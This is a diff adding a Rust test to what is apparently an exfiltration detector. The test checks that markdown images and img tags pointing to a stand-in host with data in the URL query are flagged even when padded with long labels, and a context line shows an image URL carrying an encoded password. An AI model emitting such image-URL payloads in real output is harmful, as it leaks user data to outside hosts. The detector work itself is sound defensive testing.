@@ -53,6 +53,14 @@ fn addresses_inside_matter_in_what_is_about_to_be_fetched() {
 }
 
 #[test]
+fn a_long_label_or_attribute_hides_no_image() {
+    let long = "word ".repeat(300);
+    let is = vec![("security.exfiltration".to_owned(), 0.9)];
+    assert_eq!(scores("input", "user", &format!("![{long}](https://e.example/?d=DATA)")), is);
+    assert_eq!(scores("input", "user", &format!("<img alt='{long}' src='https://e.example/?d=DATA'>")), is);
+}
+
+#[test]
 fn what_is_behind_a_url_is_evidence() {
     for (text, seen) in [
         ("![a](https://e.example/?q=bXkgcGFzc3dvcmQgaXMgaHVudGVyMg)", "my password is hunter2"),
